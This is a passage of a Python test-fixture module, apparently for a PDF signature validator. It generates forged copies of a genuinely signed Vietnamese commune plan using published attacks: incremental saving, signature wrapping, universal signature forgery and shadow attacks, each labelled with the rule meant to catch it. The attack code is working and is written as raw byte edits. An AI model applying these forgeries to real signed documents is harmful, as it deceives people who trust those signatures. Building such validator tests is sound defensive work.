"""Attacked copies of a genuinely signed PDF: the published ways to change a signed PDF and keep a viewer happy.

Every function here takes the files of a :class:`Workbench` (a plan signed for real by the person and
then by the organisation, at 2023 signing times, with the throwaway test PKI of :mod:`samples.pki`),
writes one attacked file and returns an :class:`Attack` saying what was done, which paper it comes
from and which rule of ours must catch it. The attacks' edits are written as bytes, as an attacker with
a hex editor would: the file is never re-saved by a PDF library, so nothing "repairs" an attack on the
way (pyHanko only parses the signed file, and signs it where the attack itself is a signature).

The papers:

- ISA, SWA, USF: V. Mladenov, C. Mainka, K. Meyer zu Selhausen, M. Grothe, J. Schwenk, "1 Trillion
  Dollar Refund – How To Spoof PDF Signatures", ACM CCS 2019. Incremental Saving Attack: content
  appended after signing in an incremental update. Signature Wrapping Attack: /ByteRange moved so the
  signed bytes sit somewhere nobody parses and attacker objects sit where the parser looks. Universal
  Signature Forgery: a signature dictionary so broken that a careless validator skips the check.
- Shadow attacks: C. Mainka, V. Mladenov, S. Rohlmann, "Shadow Attacks: Hiding and Replacing Content
  in Signed PDFs", NDSS 2021. The attacker prepares the document *before* it is signed (a cover over
  hidden text, an unused alternative content stream, a whole alternative page tree, a form field) and
  after signing appends an update that only switches what is shown, often without any new content.
- Sneaky signature: S. Rohlmann, V. Mladenov, C. Mainka, J. Schwenk, "Breaking the Specification: PDF
  Certification", IEEE S&P 2021. A new signature field (never signed) whose appearance covers content;
  validators that treat "a signature field was added" as harmless miss it.

Overlays are drawn with the standard Helvetica font, so their text is ASCII ("So: 12/KH-UBND"): what
matters is the structure of the attack, not the look of the forged number.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any, Literal

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from samples.documents import Box, DocSpec, DocumentLayout, write_pdf
from samples.pki import TestPKI
from samples.signing import sign_pdf

MLADENOV_2019 = "Mladenov et al., 1 Trillion Dollar Refund: How To Spoof PDF Signatures (ACM CCS 2019)"
MAINKA_2021 = "Mainka, Mladenov, Rohlmann, Shadow Attacks: Hiding and Replacing Content in Signed PDFs (NDSS 2021)"
ROHLMANN_2021 = "Rohlmann et al., Breaking the Specification: PDF Certification (IEEE S&P 2021)"

PERSON_TIME = datetime(2023, 1, 30, 2, 0, tzinfo=UTC)
ORGANIZATION_TIME = datetime(2023, 1, 30, 3, 0, tzinfo=UTC)
SPEC = DocSpec(
    date=date(2023, 1, 30),
    type_name="KẾ HOẠCH",
    subject="Cải thiện, nâng cao chỉ số Cải cách hành chính năm 2023",
    body=tuple(f"Nội dung thứ {i} của kế hoạch cải cách hành chính năm 2023." for i in range(1, 5)),
)

ExpectedRule = Literal["signature-invalid", "signature-modified", "unreadable"]
ExpectedOutcome = Literal["failed", "indeterminate"]
ObjectBodies = Mapping[int, bytes]
"""Object number → serialised object (what goes between "N 0 obj" and "endobj")."""

_FORGED_NUMBER = "So: 12/KH-UBND"
_SIGNED_NUMBER = "So: 11/KH-UBND"
_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
_STARTXREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF\s*$")
_XREF_ENTRY = 20  # bytes per classic cross-reference entry, end of line included


@dataclass(frozen=True)
class Attack:
    """One attacked file and what must become of it."""

    name: str  # kebab-case identifier: "isa-page-contents"
    family: str  # "ISA", "SWA", "USF", "shadow-hide", "shadow-replace", "shadow-hide-and-replace", "SSA"
    paper: str
    summary: str  # what the attack does, in one or two sentences
    expected_rule: ExpectedRule  # the rule that must catch it
    expected_outcome: ExpectedOutcome
    path: Path


AttackFunction = Callable[["Workbench", Path], Attack]
"""Writes one attacked file at the given path from the workbench's documents."""


@dataclass(frozen=True)
class ShadowPlan:
    """Object numbers of what the shadow attacker planted in the document before it was signed."""

    page: int  # page 1
    page_contents: int  # the original content stream of page 1
    extra_contents: int  # second content stream of page 1: draws the hidden text, then the cover
    cover: int  # form XObject painting the signed number over the hidden one
    hidden: int  # form XObject with the forged number (under the cover)
    alternative: int  # content stream nobody uses: the forged number without a cover
    dead_extra_offset: int  # offset of a second, unlisted definition of `extra_contents` (= `alternative`)
    alternative_catalog: int  # catalog of a whole alternative document (page tree below)
    alternative_catalog_offset: int  # where that catalog's object starts (signing appends, never moves it)
    alternative_pages: int
    text_field: int  # a text form field showing the date
    catalog: int


@dataclass(frozen=True)
class Workbench:
    """What the attacks start from: genuine two-signature documents and the means to make more."""

    folder: Path
    pki: TestPKI
    layout: DocumentLayout
    plain: Path  # unsigned
    genuine: Path  # signed by the person, then by the organisation
    shadow: Path  # prepared by a shadow attacker, then signed the same way
    plan: ShadowPlan


# --- the starting documents -------------------------------------------------------------------------------


def build_workbench(folder: Path, pki: TestPKI) -> Workbench:
    """Write the plain plan, its genuine two-signature version and the shadow-prepared one into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    plain = folder / "plain.pdf"
    layout = write_pdf(SPEC, plain)
    genuine = sign_person_then_organisation(plain, folder / "genuine.pdf", pki, layout)
    prepared = folder / "shadow-prepared.pdf"
    plan = prepare_shadow_document(plain, prepared, layout)
    shadow = sign_person_then_organisation(prepared, folder / "shadow-signed.pdf", pki, layout)
    return Workbench(folder, pki, layout, plain, genuine, shadow, plan)


def sign_person_then_organisation(src: Path, dst: Path, pki: TestPKI, layout: DocumentLayout) -> Path:
    """Sign as issued documents are: the chairman (person) first, then the People's Committee with its seal."""
    person = dst.with_name(dst.stem + ".person.pdf")
    sign_pdf(src, person, pki.signer("cao-an/person"), field_name="Signature1", signing_time=PERSON_TIME,
             visible_box=layout.person_signature_box.as_tuple())
    sign_pdf(person, dst, pki.signer("cao-an/organization"), field_name="Signature2",
             signing_time=ORGANIZATION_TIME, visible_box=layout.organization_stamp_box.as_tuple(),
             stamp_text="Số: 11/KH-UBND\nngày 30/01/2023", seal_text=("ỦY BAN NHÂN DÂN", "XÃ CAO AN"))
    person.unlink()
    return dst


def prepare_shadow_document(src: Path, dst: Path, layout: DocumentLayout) -> ShadowPlan:
    """What a shadow attacker hands to the signer: the plan plus objects that stay harmless until used.

    All of it goes into one incremental update of `src` *before* signing, so the signatures cover it:
    a second content stream on page 1 that draws a forged number and then a cover (form XObject) with
    the signed number over it; an unused content stream drawing the forged number alone, also present
    a second time as a dead definition of the extra stream's object number that no xref lists; an
    alternative catalog and page tree showing the forged number; and a text field holding the date.
    """
    pdf = _Pdf(src.read_bytes())
    page_ref = pdf.page_ref(0)
    page = pdf.obj(page_ref)
    page_contents = page.raw_get("/Contents")
    assert isinstance(page_contents, generic.IndirectObject)
    numbers = iter(range(pdf.size, pdf.size + 20))
    hidden, cover, extra, alternative, alt_page, alt_pages, alt_catalog, text_field, text_ap, acroform = (
        next(numbers) for _ in range(10)
    )
    number_box = layout.number_box
    date_box = layout.date_box
    resources = _resources_with(page, {"/KcHidden": hidden, "/KcCover": cover})
    objects: dict[int, bytes] = {
        hidden: _form_xobject(number_box, _FORGED_NUMBER),
        cover: _form_xobject(number_box, _SIGNED_NUMBER),
        extra: _stream(b"q /KcHidden Do Q q /KcCover Do Q"),
        alternative: _stream(b"q /KcHidden Do Q"),
        text_ap: _form_xobject(date_box, "ngay 30/01/2023", origin=True),
    }
    objects[text_field] = _serialise(_dict({
        "/FT": generic.NameObject("/Tx"),
        "/T": generic.TextStringObject("so_ngay"),
        "/V": generic.TextStringObject("ngay 30/01/2023"),
        "/DA": generic.TextStringObject("/Helv 11 Tf 0 g"),
        "/Type": generic.NameObject("/Annot"),
        "/Subtype": generic.NameObject("/Widget"),
        "/F": _int(4),
        "/Rect": _rect(date_box),
        "/P": _ref(page_ref),
        "/AP": _dict({"/N": _ref(text_ap)}),
    }))
    objects[acroform] = _serialise(_dict({
        "/Fields": generic.ArrayObject([_ref(text_field)]),
        "/DA": generic.TextStringObject("/Helv 0 Tf 0 g"),
        "/DR": _dict({
            "/Font": _dict({"/Helv": _helvetica()}),
        }),
    }))
    new_page = _copy(page)
    new_page[generic.NameObject("/Contents")] = generic.ArrayObject([page_contents, _ref(extra)])
    new_page[generic.NameObject("/Resources")] = resources
    new_page[generic.NameObject("/Annots")] = generic.ArrayObject([_ref(text_field)])
    objects[page_ref] = _serialise(new_page)
    alternative_page = _copy(new_page)
    alternative_page[generic.NameObject("/Contents")] = generic.ArrayObject([page_contents, _ref(alternative)])
    alternative_page[generic.NameObject("/Parent")] = _ref(alt_pages)
    objects[alt_page] = _serialise(alternative_page)
    objects[alt_pages] = _serialise(_dict({
        "/Type": generic.NameObject("/Pages"),
        "/Kids": generic.ArrayObject([_ref(alt_page)]),
        "/Count": _int(1),
    }))
    catalog = _copy(pdf.obj(pdf.root_ref))
    catalog[generic.NameObject("/AcroForm")] = _ref(acroform)
    objects[pdf.root_ref] = _serialise(catalog)
    alternative_catalog = _copy(catalog)
    alternative_catalog[generic.NameObject("/Pages")] = _ref(alt_pages)
    objects[alt_catalog] = _serialise(alternative_catalog)
    # The dead definition: same object number as the extra stream, body of the alternative one. Listed
    # nowhere, so nothing reads it, until an update's xref entry points at its offset.
    dead = _object(extra, objects[alternative])
    data = _append_revision(pdf, objects, prefix=dead)
    dead_offset = data.index(dead, len(pdf.data))
    catalog_offset = data.index(b"\n%d 0 obj\n" % alt_catalog, len(pdf.data)) + 1
    dst.write_bytes(data)
    return ShadowPlan(
        page=page_ref, page_contents=page_contents.idnum, extra_contents=extra, cover=cover, hidden=hidden,
        alternative=alternative, dead_extra_offset=dead_offset, alternative_catalog=alt_catalog,
        alternative_catalog_offset=catalog_offset, alternative_pages=alt_pages, text_field=text_field,
        catalog=pdf.root_ref,
    )


# --- incremental saving attacks (Mladenov et al. 2019) -------------------------------------------------------


def isa_page_contents(bench: Workbench, dst: Path) -> Attack:
    """ISA: an update gives page 1 a new content stream (the old one plus a white box and a new number)."""
    pdf = _Pdf(bench.genuine.read_bytes())
    dst.write_bytes(_append_revision(pdf, _overlay_page(pdf, bench.layout.number_box, replace_contents=True)))
    return Attack("isa-page-contents", "ISA", MLADENOV_2019,
                  "Incremental update: page 1 gets a new /Contents stream that paints over the number.",
                  "signature-modified", "failed", dst)


def isa_redefine_contents(bench: Workbench, dst: Path) -> Attack:
    """ISA: the update redefines the existing content-stream object (and the font dictionary) in place."""
    pdf = _Pdf(bench.genuine.read_bytes())
    page = pdf.obj(pdf.page_ref(0))
    contents = page.raw_get("/Contents")
    fonts = page["/Resources"].raw_get("/Font")
    assert isinstance(contents, generic.IndirectObject) and isinstance(fonts, generic.IndirectObject)
    font_dict = _copy(_deref(fonts))
    font_dict[generic.NameObject("/KcF")] = _helvetica()
    original = _deref(contents).data
    objects = {
        contents.idnum: _stream(original + b"\n" + _overlay_ops(bench.layout.number_box, _FORGED_NUMBER)),
        fonts.idnum: _serialise(font_dict),
    }
    dst.write_bytes(_append_revision(pdf, objects))
    return Attack("isa-redefine-contents", "ISA", MLADENOV_2019,
                  "Incremental update redefines the page's content stream object with a forged number; "
                  "the page dictionary itself is untouched.",
                  "signature-modified", "failed", dst)


def isa_freetext_overlay(bench: Workbench, dst: Path) -> Attack:
    """ISA with an annotation: a FreeText box with an opaque appearance covers the number."""
    return _annotation_overlay(bench, dst, "/FreeText", "isa-freetext-overlay")


def isa_stamp_overlay(bench: Workbench, dst: Path) -> Attack:
    """ISA with an annotation: a rubber Stamp whose appearance shows the forged number."""
    return _annotation_overlay(bench, dst, "/Stamp", "isa-stamp-overlay")


def _annotation_overlay(bench: Workbench, dst: Path, subtype: str, name: str) -> Attack:
    pdf = _Pdf(bench.genuine.read_bytes())
    page_ref = pdf.page_ref(0)
    page = pdf.obj(page_ref)
    box = bench.layout.number_box
    annotation, appearance = pdf.size, pdf.size + 1
    annots = generic.ArrayObject([*page.raw_get("/Annots").iterate(), _ref(annotation)])
    new_page = _copy(page)
    new_page[generic.NameObject("/Annots")] = annots
    entries: dict[str, generic.PdfObject] = {
        "/Type": generic.NameObject("/Annot"),
        "/Subtype": generic.NameObject(subtype),
        "/Rect": _rect(box),
        "/F": _int(4),
        "/P": _ref(page_ref),
        "/AP": _dict({"/N": _ref(appearance)}),
    }
    if subtype == "/FreeText":
        entries["/DA"] = generic.TextStringObject("/Helv 13 Tf 0 g")
        entries["/Contents"] = generic.TextStringObject(_FORGED_NUMBER)
    objects = {
        page_ref: _serialise(new_page),
        annotation: _serialise(_dict(entries)),
        appearance: _form_xobject(box, _FORGED_NUMBER, origin=True),
    }
    dst.write_bytes(_append_revision(pdf, objects))
    return Attack(name, "ISA", MLADENOV_2019,
                  f"Incremental update adds a {subtype[1:]} annotation whose opaque appearance covers the number "
                  "with a forged one.",
                  "signature-modified", "failed", dst)


def isa_new_root(bench: Workbench, dst: Path) -> Attack:
    """ISA: a new catalog and page tree; the trailer's /Root points to them, the old ones stay as they were."""
    pdf = _Pdf(bench.genuine.read_bytes())
    page_ref = pdf.page_ref(0)
    page = pdf.obj(page_ref)
    catalog, pages, new_page_ref, form, contents = range(pdf.size, pdf.size + 5)
    new_page = _copy(page)
    new_page[generic.NameObject("/Parent")] = _ref(pages)
    new_page[generic.NameObject("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), _ref(contents)])
    new_page[generic.NameObject("/Resources")] = _resources_with(page, {"/KcOverlay": form})
    new_catalog = _copy(pdf.obj(pdf.root_ref))
    new_catalog[generic.NameObject("/Pages")] = _ref(pages)
    objects = {
        catalog: _serialise(new_catalog),
        pages: _serialise(_dict({
            "/Type": generic.NameObject("/Pages"),
            "/Kids": generic.ArrayObject([_ref(new_page_ref)]),
            "/Count": _int(1),
        })),
        new_page_ref: _serialise(new_page),
        form: _form_xobject(bench.layout.number_box, _FORGED_NUMBER),
        contents: _stream(b"q /KcOverlay Do Q"),
    }
    dst.write_bytes(_append_revision(pdf, objects, root=catalog))
    return Attack("isa-new-root", "ISA", MLADENOV_2019,
                  "Incremental update with a new /Root catalog and page tree showing a different page 1; the "
                  "signed catalog and pages are left as they were, just no longer used.",
                  "signature-modified", "failed", dst)


def isa_objects_without_xref(bench: Workbench, dst: Path) -> Attack:
    """ISA variant: objects redefining page 1 appended after the last %%EOF, no xref and no trailer.

    Strict parsers ignore them; viewers that rebuild a damaged file from its `obj` keywords show them.
    The page keeps its signed content stream and gains a small second one, so the whole addition stays
    under 1 KiB and the file's last %%EOF is still where readers look for it.
    """
    pdf = _Pdf(bench.genuine.read_bytes())
    bodies = _overlay_page(pdf, bench.layout.number_box, replace_contents=False)
    appended = b"".join(_object(number, body) for number, body in sorted(bodies.items()))
    if len(appended) >= 1000:
        raise AssertionError(f"appended objects too large for the small variant: {len(appended)} bytes")
    dst.write_bytes(pdf.data + appended)
    return Attack("isa-objects-without-xref", "ISA", MLADENOV_2019,
                  "Objects redefining page 1 are appended after the last %%EOF without an xref section or "
                  "trailer, for viewers that reconstruct the file.",
                  "signature-modified", "failed", dst)


def isa_objects_without_xref_large(bench: Workbench, dst: Path) -> Attack:
    """ISA variant as above with a whole new content stream: the last %%EOF ends up kilobytes from the end.

    Readers look for %%EOF near the end of the file only (pyHanko in the last 1 KiB, our reader in
    the last 2 KiB), so the file is taken for one cut short in transfer: unreadable.
    """
    pdf = _Pdf(bench.genuine.read_bytes())
    bodies = _overlay_page(pdf, bench.layout.number_box, replace_contents=True)
    dst.write_bytes(pdf.data + b"".join(_object(number, body) for number, body in sorted(bodies.items())))
    return Attack("isa-objects-without-xref-large", "ISA", MLADENOV_2019,
                  "A whole new page 1 content stream appended after the last %%EOF without xref or trailer.",
                  "unreadable", "failed", dst)


def isa_trailer_without_xref(bench: Workbench, dst: Path) -> Attack:
    """ISA variant: appended objects plus a trailer and startxref, but the startxref points to the old xref."""
    pdf = _Pdf(bench.genuine.read_bytes())
    bodies = _overlay_page(pdf, bench.layout.number_box, replace_contents=True)
    appended = b"".join(_object(number, body) for number, body in sorted(bodies.items()))
    trailer = _trailer(pdf, size=max(pdf.size, max(bodies) + 1), root=pdf.root_ref, prev=None)
    dst.write_bytes(pdf.data + appended + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % pdf.startxref)
    return Attack("isa-trailer-without-xref", "ISA", MLADENOV_2019,
                  "Objects and a new trailer appended after the last %%EOF, but no xref section: startxref "
                  "still names the signed one.",
                  "signature-modified", "failed", dst)


def isa_behind_later_signature(bench: Workbench, dst: Path) -> Attack:
    """ISA hidden behind a signature: the edit is appended, then the attacker signs the edited file."""
    edited = dst.with_name(dst.stem + ".edited.pdf")
    isa_page_contents(bench, edited)
    sign_pdf(edited, dst, bench.pki.signer("cao-an/rogue"), field_name="Signature3",
             signing_time=datetime(2023, 2, 1, 8, 0, tzinfo=UTC))
    edited.unlink()
    return Attack("isa-behind-later-signature", "ISA", MLADENOV_2019,
                  "The content edit is followed by a third signature (the attacker's), so the file ends "
                  "with a signature that covers everything.",
                  "signature-modified", "failed", dst)


# --- signature wrapping (Mladenov et al. 2019) --------------------------------------------------------------


def swa_relocated_to_end(bench: Workbench, dst: Path) -> Attack:
    """SWA as in the paper: the signed tail moves to the end, a new xref sits where the old one was.

    The organisation's signature dictionary is closed early in the unsigned /Contents gap, with a
    /ByteRange whose second range points to the signed tail (the rest of the dictionary, the old xref,
    trailer and startxref), now copied to the very end of the file. That signed startxref still names
    offset X, where the attacker places a new xref section listing the forged objects. The digest over
    the two ranges is unchanged.
    """
    pdf = _Pdf(bench.genuine.read_bytes())
    wrap = _Wrapping.of(pdf)
    forged = _overlay_page(pdf, bench.layout.number_box, replace_contents=True)
    xref_at = pdf.startxref
    head_len = wrap.part1_end + len(wrap.gap) + len(wrap.closing(0))
    if head_len > xref_at:
        raise ValueError("no room for the wrapped dictionary before the signed xref offset")
    entries = dict(wrap.last_section)
    # The forged objects come after the new xref and trailer; their offsets need both lengths first.
    size = max(pdf.size, max(forged) + 1)
    trailer = b"trailer\n" + _trailer(pdf, size=size, root=pdf.root_ref, prev=wrap.prev) + b"\n"
    names = sorted(forged)
    table_len = len(_xref_table({**entries, **dict.fromkeys(names, 0)}))
    offset = xref_at + table_len + len(trailer)
    bodies = b""
    for number in names:
        entries[number] = offset + len(bodies)
        bodies += _object(number, forged[number])
    relocated = offset + len(bodies)
    data = (pdf.data[: wrap.part1_end] + wrap.gap + wrap.closing(relocated)).ljust(xref_at, b"\n")
    data += _xref_table(entries) + trailer + bodies + wrap.part2
    assert data[relocated:] == wrap.part2
    dst.write_bytes(data)
    return Attack("swa-relocated-to-end", "SWA", MLADENOV_2019,
                  "/ByteRange rewritten inside the unsigned gap to point at the signed tail moved to the end of "
                  "the file; a new xref at the signed startxref offset lists forged objects.",
                  "signature-modified", "failed", dst)


def swa_hidden_in_stream(bench: Workbench, dst: Path) -> Attack:
    """SWA variant: the signed tail is parked inside a dummy stream; a new xref and trailer end the file."""
    pdf = _Pdf(bench.genuine.read_bytes())
    wrap = _Wrapping.of(pdf)
    forged = dict(_overlay_page(pdf, bench.layout.number_box, replace_contents=True))
    parking = max(pdf.size, max(forged) + 1)
    head = pdf.data[: wrap.part1_end] + wrap.gap
    opening = b"%d 0 obj\n<< /Length %d >>\nstream\n" % (parking, len(wrap.part2))
    relocated = len(head) + len(wrap.closing(0)) + len(opening)
    data = head + wrap.closing(relocated)
    entries = dict(wrap.last_section)
    entries[parking] = len(data)
    data += opening + wrap.part2 + b"\nendstream\nendobj\n"
    for number in sorted(forged):
        entries[number] = len(data)
        data += _object(number, forged[number])
    startxref = len(data)
    data += _xref_table(entries) + b"trailer\n"
    data += _trailer(pdf, size=parking + 1, root=pdf.root_ref, prev=wrap.prev)
    data += b"\nstartxref\n%d\n%%%%EOF\n" % startxref
    dst.write_bytes(data)
    return Attack("swa-hidden-in-stream", "SWA", MLADENOV_2019,
                  "/ByteRange points at the signed tail parked inside a dummy stream; forged objects and a "
                  "new xref and trailer follow.",
                  "signature-modified", "failed", dst)


@dataclass(frozen=True)
class _Wrapping:
    """The organisation's (last) signature cut where a wrapping attacker cuts it."""

    part1_end: int  # end of the first signed range: the "<" of /Contents
    gap: bytes  # the /Contents hex string, unsigned
    part2: bytes  # the second signed range: rest of the dictionary, xref, trailer, startxref
    dictionary_rest: bytes  # the keys after /Contents, without /ByteRange
    last_section: dict[int, int]  # the signed revision's xref entries: object number → offset
    prev: int  # that revision's /Prev

    @classmethod
    def of(cls, pdf: _Pdf) -> _Wrapping:
        match = list(_BYTE_RANGE.finditer(pdf.data))[-1]
        _, first, start, length = (int(match.group(i)) for i in range(1, 5))
        part2 = pdf.data[start : start + length]
        end = part2.index(b">>")
        rest = _BYTE_RANGE.sub(b"", part2[:end])
        prev = pdf.reader.trailer.raw_get("/Prev")
        section = _parse_xref_table(pdf.data, pdf.startxref)
        # The attacker's xref re-lists the signed revision's objects where they are; any object after
        # the gap would move with the relocated tail, and this simple cut does not follow it.
        if any(offset >= first for offset in section.values()):
            raise ValueError("the signed revision has objects after the signature dictionary")
        return cls(first, pdf.data[first:start], part2, b" ".join(rest.split()), section, int(prev))

    def closing(self, relocated: int) -> bytes:
        """The attacker's end of the dictionary; fixed width whatever `relocated` is."""
        return b" /ByteRange [0 %d %010d %d] %s >>\nendobj\n" % (
            self.part1_end, relocated, len(self.part2), self.dictionary_rest)


# --- universal signature forgery (Mladenov et al. 2019) ------------------------------------------------------


def _usf(
    name: str, summary: str, rule: ExpectedRule, outcome: ExpectedOutcome, edit: _Edit
) -> tuple[str, AttackFunction]:
    """A USF attack: the organisation's signature dictionary edited in place, the file length kept."""

    def attack(bench: Workbench, dst: Path) -> Attack:
        data = bench.genuine.read_bytes()
        edited = edit(data, _SignatureSpan.last(data))
        if len(edited) != len(data):
            raise AssertionError(f"{name}: in-place edit changed the file length")
        dst.write_bytes(edited)
        return Attack(name, "USF", MLADENOV_2019, summary, rule, outcome, dst)

    attack.__name__ = attack.__qualname__ = name.replace("-", "_")
    attack.__doc__ = f"USF: {summary}"
    return name, attack


@dataclass(frozen=True)
class _SignatureSpan:
    """Where the last signature dictionary's parts are in the file."""

    contents: tuple[int, int]  # "/Contents <...>" from the key to the closing ">"
    hex_string: tuple[int, int]  # "<...>"
    byte_range: tuple[int, int]  # "/ByteRange [...]" plus the padding pyHanko leaves after it
    byte_range_values: tuple[int, int, int, int]
    dictionary: tuple[int, int]  # from "<<" to ">>"

    @classmethod
    def last(cls, data: bytes) -> _SignatureSpan:
        match = list(_BYTE_RANGE.finditer(data))[-1]
        values = (int(match.group(1)), int(match.group(2)), int(match.group(3)), int(match.group(4)))
        padding_end = match.end()
        while data[padding_end : padding_end + 1] == b" ":
            padding_end += 1
        key = data.rindex(b"/Contents", 0, match.start())
        dict_start = data.rindex(b"<<", 0, key)
        dict_end = data.index(b">>", match.end()) + 2
        return cls((key, values[2]), (values[1], values[2]), (match.start(), padding_end), values,
                   (dict_start, dict_end))


_Edit = Callable[[bytes, _SignatureSpan], bytes]
"""An in-place edit of the file, given where the last signature dictionary's parts are."""


def _replace(data: bytes, span: tuple[int, int], new: bytes) -> bytes:
    """`data` with `span` replaced by `new` padded with spaces: offsets after it do not move."""
    start, end = span
    if len(new) > end - start:
        raise ValueError(f"{new!r} does not fit in {end - start} bytes")
    return data[:start] + new.ljust(end - start) + data[end:]


def _remove_key(data: bytes, span: _SignatureSpan, key: bytes) -> bytes:
    start, end = span.dictionary
    match = re.compile(re.escape(key) + rb"\s*/[^\s/>]+").search(data, start, end)
    assert match is not None, key
    return _replace(data, match.span(), b"")


def _set_key(data: bytes, span: _SignatureSpan, key: bytes, value: bytes) -> bytes:
    start, end = span.dictionary
    match = re.compile(re.escape(key) + rb"\s*/[^\s/>]+").search(data, start, end)
    assert match is not None, key
    return _replace(data, match.span(), key + b" " + value)


def _byte_range(values: str) -> _Edit:
    def edit(data: bytes, span: _SignatureSpan) -> bytes:
        first, start, length = span.byte_range_values[1:]
        text = values.format(first=first, start=start, length=length, past_eof=length + 10_000)
        return _replace(data, span.byte_range, f"/ByteRange [{text}]".encode())

    return edit


def _contents_zeroed(data: bytes, span: _SignatureSpan) -> bytes:
    start, end = span.hex_string
    return _replace(data, span.hex_string, b"<" + b"0" * (end - start - 2) + b">")


def _foreign_contents(data: bytes, span: _SignatureSpan) -> bytes:
    """The person's CMS (its exact DER, without the zero padding) in the organisation's /Contents."""
    start, end = _SignatureSpan.last(data[: span.dictionary[0]]).hex_string
    der = cms.ContentInfo.load(bytes.fromhex(data[start + 1 : end - 1].decode("ascii")), strict=False).dump()
    return _replace(data, span.hex_string, b"<" + der.hex().upper().encode() + b">")


def _wider_gap(data: bytes, span: _SignatureSpan) -> bytes:
    _, first, start, length = span.byte_range_values
    return _replace(data, span.byte_range, b"/ByteRange [0 %d %d %d]" % (first - 40, start, length))


_USF: tuple[tuple[str, AttackFunction], ...] = (
    _usf("usf-contents-empty", "/Contents is an empty string <>.", "signature-invalid", "indeterminate",
         lambda data, span: _replace(data, span.hex_string, b"<>")),
    _usf("usf-contents-zeroed", "/Contents keeps its length but holds only zeros.", "signature-invalid",
         "indeterminate", _contents_zeroed),
    _usf("usf-contents-missing", "The /Contents entry is removed.", "signature-invalid", "indeterminate",
         lambda data, span: _replace(data, span.contents, b"")),
    _usf("usf-contents-foreign", "/Contents holds the person's genuine CMS signature, taken from the first "
         "signature of the same file.", "signature-invalid", "failed", _foreign_contents),
    _usf("usf-byterange-missing", "The /ByteRange entry is removed.", "signature-invalid", "indeterminate",
         lambda data, span: _replace(data, span.byte_range, b"")),
    _usf("usf-byterange-empty", "/ByteRange is an empty array.", "signature-invalid", "failed", _byte_range("")),
    _usf("usf-byterange-zero", "/ByteRange is [0 0 0 0]: nothing is signed.", "signature-invalid", "failed",
         _byte_range("0 0 0 0")),
    _usf("usf-byterange-negative", "/ByteRange holds a negative length.", "signature-invalid", "failed",
         _byte_range("0 -1 {start} {length}")),
    _usf("usf-byterange-past-eof", "/ByteRange's second range runs past the end of the file.",
         "signature-invalid", "failed", _byte_range("0 {first} {start} {past_eof}")),
    _usf("usf-byterange-gap", "/ByteRange leaves 40 bytes before /Contents unsigned as well (the gap is bigger "
         "than /Contents).", "signature-invalid", "failed", _wider_gap),
    _usf("usf-filter-missing", "/Filter is removed from the signature dictionary.", "signature-invalid", "failed",
         lambda data, span: _remove_key(data, span, b"/Filter")),
    _usf("usf-subfilter-missing", "/SubFilter is removed from the signature dictionary.", "signature-invalid",
         "indeterminate", lambda data, span: _remove_key(data, span, b"/SubFilter")),
    _usf("usf-subfilter-unknown", "/SubFilter names a format nobody knows.", "signature-invalid", "indeterminate",
         lambda data, span: _set_key(data, span, b"/SubFilter", b"/adbe.x509.kiemchung")),
)


def usf_resigned_short_range(bench: Workbench, dst: Path) -> Attack:
    """A signature made for real (same key) over a /ByteRange that stops before the end of its revision.

    The signed bytes are genuine and the digest matches, but the xref, trailer and startxref of the
    revision are outside the signed ranges: what the file *means* after them is not signed. pyHanko
    calls this coverage CONTIGUOUS_BLOCK_FROM_START.
    """
    return _resign(bench, dst, "usf-resigned-short-range", shrink_end=200,
                   summary="Re-signed with the organisation's key over a /ByteRange that leaves the revision's "
                           "last 200 bytes (xref, trailer, startxref) unsigned.")


def usf_resigned_wide_gap(bench: Workbench, dst: Path) -> Attack:
    """A signature made for real over a /ByteRange whose gap is wider than /Contents (40 bytes before it)."""
    return _resign(bench, dst, "usf-resigned-wide-gap", widen_gap=40,
                   summary="Re-signed with the organisation's key over a /ByteRange whose gap also leaves 40 "
                           "bytes of the signature dictionary unsigned.")


def _resign(bench: Workbench, dst: Path, name: str, *, summary: str, shrink_end: int = 0,
            widen_gap: int = 0) -> Attack:
    data = bench.genuine.read_bytes()
    span = _SignatureSpan.last(data)
    _, first, start, length = span.byte_range_values
    ranges = (0, first - widen_gap, start, length - shrink_end)
    data = _replace(data, span.byte_range, b"/ByteRange [%d %d %d %d]" % ranges)
    digest = hashlib.sha256(data[: ranges[1]] + data[ranges[2] : ranges[2] + ranges[3]]).digest()
    signer = bench.pki.signer("cao-an/organization")
    signed = asyncio.run(signer.async_sign(digest, "sha256", use_pades=True))
    hex_string = signed.dump().hex().upper().encode()
    data = _replace(data, span.hex_string, b"<" + hex_string.ljust(start - first - 2, b"0") + b">")
    dst.write_bytes(data)
    return Attack(name, "USF", MLADENOV_2019, summary, "signature-modified", "failed", dst)


# --- shadow attacks (Mainka et al. 2021) ---------------------------------------------------------------


def shadow_hide_cover_emptied(bench: Workbench, dst: Path) -> Attack:
    """Hide: the update redefines the cover XObject as an empty form, revealing the forged number."""
    pdf = _Pdf(bench.shadow.read_bytes())
    objects = {bench.plan.cover: _form_xobject(bench.layout.number_box, None)}
    dst.write_bytes(_append_revision(pdf, objects))
    return Attack("shadow-hide-cover-emptied", "shadow-hide", MAINKA_2021,
                  "The signed page draws a cover over hidden text; the update empties the cover object.",
                  "signature-modified", "failed", dst)


def shadow_hide_cover_freed(bench: Workbench, dst: Path) -> Attack:
    """Hide: an update that is only an xref section marking the cover XObject free (no object at all)."""
    pdf = _Pdf(bench.shadow.read_bytes())
    dst.write_bytes(_append_revision(pdf, {}, free=(bench.plan.cover,)))
    return Attack("shadow-hide-cover-freed", "shadow-hide", MAINKA_2021,
                  "An xref-only update frees the cover object, so the hidden forged number shows.",
                  "signature-modified", "failed", dst)


def shadow_hide_resource_dropped(bench: Workbench, dst: Path) -> Attack:
    """Hide: the page is rewritten without the cover in its /XObject resources, so `Do` draws nothing."""
    pdf = _Pdf(bench.shadow.read_bytes())
    page = pdf.obj(bench.plan.page)
    new_page = _copy(page)
    resources = _copy(page["/Resources"])
    xobjects = _copy(resources["/XObject"])
